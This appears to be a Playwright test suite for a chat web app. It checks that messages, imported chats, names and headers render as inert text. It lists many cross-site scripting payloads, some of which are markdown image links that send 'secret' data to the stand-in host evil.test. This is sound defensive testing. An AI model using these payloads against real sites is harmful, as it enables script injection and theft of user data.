"""The words of people and models stay text, in a real browser: no script of theirs runs, no dialog
opens, the page's policy has nothing to refuse, and nothing is fetched from elsewhere."""

import json
from collections.abc import Iterator, Sequence
from contextlib import ExitStack
from pathlib import Path
from urllib.parse import quote

import httpx2
import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request, expect

from tests.processes import browser as chromium
from tests.processes import site
from tests.processes.browser import send, wait_until_answered

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

EVIL = "https://evil.test"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/a.png>",
    "<svg onload=alert(1)><circle r=9></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    f"<form action={EVIL}><button>go</button></form>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<style>@import '{EVIL}/a.css'; body {{ background: url({EVIL}/b) }}</style>",
    f"<div style='background:url({EVIL}/c)'>x</div>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    f"<video poster={EVIL}/p src={EVIL}/v></video><audio src={EVIL}/s></audio>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "<javascript:alert(1)>",
    f"![secret]({EVIL}/q?d=secret)",
    f"![secret][r]\n\n[r]: {EVIL}/r?d=secret",
    f'[a]({EVIL} "x\\" onmouseover=alert(1)")',
    "[r2]\n\n[r2]: javascript:alert(1)",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```" onload="alert(1)\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| [b](javascript:alert(1)) |",
    "- [ ] <img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$",
    "$$\n\\includegraphics{https://evil.test/m.png}\n$$",
    'event: done\ndata: {"state": "done"}\n\nid: 9-9',
    '<div data-action="copy-code" data-stream="https://evil.test/s" data-live="https://evil.test/l">x</div>',
    "\u202e<script>alert(1)</script>\u2066",
]
# A page shows the last fifty messages of a chat.
ON_A_PAGE = 25
NAME = '"><img src=x onerror=alert(1)><b>'


@pytest.fixture
def context(browser: Browser, address: str, session: Path) -> Iterator[BrowserContext]:
    """Fails at its end for anything that ran, was refused or was asked from elsewhere."""
    dialogs: list[str] = []
    strange: list[str] = []

    def note_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def note_request(request: Request) -> None:
        if not request.url.startswith((address, "data:")):
            strange.append(request.url)

    with (
        chromium.watched_context(browser, address, session, "desktop") as context,
        ExitStack() as listeners,
    ):
        chromium.listen(listeners, context, "dialog", note_dialog)
        chromium.listen(listeners, context, "request", note_request)
        yield context
    assert dialogs == []
    assert strange == []


# What would run or fetch, and elements that only somebody's text can have brought.
FOUND = """(tags) => {
  const all = [...document.querySelectorAll("*")];
  return {
    schemes: [...document.querySelectorAll("main a[href], dialog a[href]")].map((a) => a.protocol),
    handlers: all.flatMap((each) => each.getAttributeNames())
      .filter((name) => name.startsWith("on") || name === "srcdoc"),
    styled: all.filter((each) => each.matches("[style]") && !each.closest(".katex")).length,
    tags: tags.filter((tag) => document.querySelector(tag)),
  };
}"""
TAGS = ("script:not([src])", "iframe", "object", "embed", "base", "main img")


def check(page: Page) -> None:
    """Check that the page leads elsewhere by plain links only."""
    page.wait_for_timeout(300)
    found = page.evaluate(FOUND, [*TAGS])
    assert set(found.pop("schemes")) <= {"http:", "https:", "mailto:"}
    # Formulas are drawn with styles that the script sets.
    assert found == {"handlers": [], "styled": 0, "tags": []}


def test_an_answer_of_hostile_text_is_harmless_streamed_reloaded_printed_and_shared(
    context: BrowserContext, api: httpx2.Client
) -> None:
    page = chromium.first_page(context)
    page.goto("/chat/")
    send(page, "\n\n".join(PAYLOADS))
    wait_until_answered(page)
    expect(page.locator(".answer .message-actions")).to_be_visible()
    check(page)
    page.reload()
    expect(page.locator(".answer .message-actions")).to_be_visible()
    check(page)
    page.evaluate("window.postMessage({ html: '<img src=x onerror=alert(1)>' }, '*')")
    conversation = page.url.rstrip("/").rsplit("/", 1)[1]
    page.goto(f"/chat/{conversation}/print/")
    check(page)
    share = {"conversation_id": conversation, "audience": "anyone"}
    page.goto("/s/" + api.post("/api/shares", json=share).json()["url"].split("/s/")[1])
    check(page)


def cut_payloads() -> list[str]:
    """Each payload, broken off at three places."""
    return [
        payload[:end]
        for payload in PAYLOADS
        for end in range(3, len(payload), max(3, len(payload) // 3))
    ]


def make_chat(number: int, texts: Sequence[str]) -> dict[str, object]:
    """Return a chat as ChatGPT exports it, in which each text is asked and answered."""
    mapping: dict[str, object] = {}
    for n, text in enumerate(text for text in texts for _ in range(2)):
        message = {
            "author": {"role": "assistant" if n % 2 else "user"},
            "content": {"content_type": "text", "parts": [text]},
        }
        mapping[str(n)] = {"id": str(n), "parent": str(n - 1) if n else None, "message": message}
    return {
        "title": f"Broken off {number}",
        "conversation_id": f"broken-off-{number}",
        "current_node": str(len(mapping) - 1),
        "mapping": mapping,
    }


def test_payloads_that_break_off_anywhere_are_harmless(
    context: BrowserContext, api: httpx2.Client
) -> None:
    cut = cut_payloads()
    chats = [cut[at : at + ON_A_PAGE] for at in range(0, len(cut), ON_A_PAGE)]
    file = json.dumps([make_chat(*each) for each in enumerate(chats)])
    sent = api.post("/api/conversations/import", files={"file": ("conversations.json", file)})
    address = f"/api/conversations/imports/{sent.json()['id']}"
    site.until(lambda: api.get(address).json()["state"] == "done", "the chats")
    held = api.get("/api/conversations?limit=100").json()["items"]
    ids = {each["title"]: each["id"] for each in held}
    page = chromium.first_page(context)
    for number, texts in enumerate(chats):
        page.goto(f"/chat/{ids[f'Broken off {number}']}/")
        expect(page.locator(".answer .prose")).to_have_count(len(texts))
        check(page)
    # What a stream ends with.
    for payload in (PAYLOADS[1], PAYLOADS[35], PAYLOADS[40]):
        send(page, payload[:-4])
        wait_until_answered(page)
        expect(page.locator(".answer").last.locator(".message-actions")).to_be_visible()
    check(page)


def test_names_of_everything_are_text_on_every_page(
    context: BrowserContext, api: httpx2.Client
) -> None:
    chat = api.post("/api/conversations", json={"title": NAME}).json()["id"]
    folder = api.post("/api/folders", json={"name": NAME, "instructions": NAME}).json()["id"]
    collection = api.post("/api/collections", json={"name": NAME}).json()["id"]
    sent = api.post("/api/documents", files={"file": (f"{NAME}.txt", f"{NAME} text".encode())})
    document = sent.json()["id"]
    address = f"/api/documents/{document}"
    site.until(lambda: api.get(address).json()["status"] == "ready", "the document")
    api.post("/api/keys", json={"name": NAME, "scopes": ["chat"]})
    page = chromium.first_page(context)
    page.goto("/chat/prompts/")
    page.get_by_label("Title").fill(NAME[:80])
    page.get_by_label("Text").fill(NAME)
    page.get_by_role("button", name="Save").click()
    for path in (
        "/chat/",
        f"/chat/{chat}/",
        f"/chat/{chat}/move/",
        f"/chat/folders/{folder}/",
        f"/chat/search/?q={NAME}",
        "/chat/prompts/",
        "/documents/",
        f"/documents/{document}/",
        f"/documents/collections/{collection}/",
        f"/chat/?document={document}&collection={collection}&folder={folder}",
        "/accounts/keys/",
        "/accounts/settings/",
    ):
        response = page.goto(path)
        assert response is not None
        assert response.status == 200, path
        check(page)
    page.goto("/chat/")
    page.keyboard.press("Control+K")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.type("img")
    check(page)


def test_headers_of_the_browser_are_never_part_of_a_page(
    browser: Browser, api: httpx2.Client
) -> None:
    context = browser.new_context(
        base_url=str(api.base_url),
        extra_http_headers={"Accept-Language": NAME, "Referer": NAME, "X-Forwarded-Host": NAME},
    )
    page = context.new_page()
    response = page.goto(f"/accounts/login/?next={quote(NAME)}")
    assert response is not None
    assert response.status == 200
    assert page.locator("[onerror]").count() == 0
    context.close()
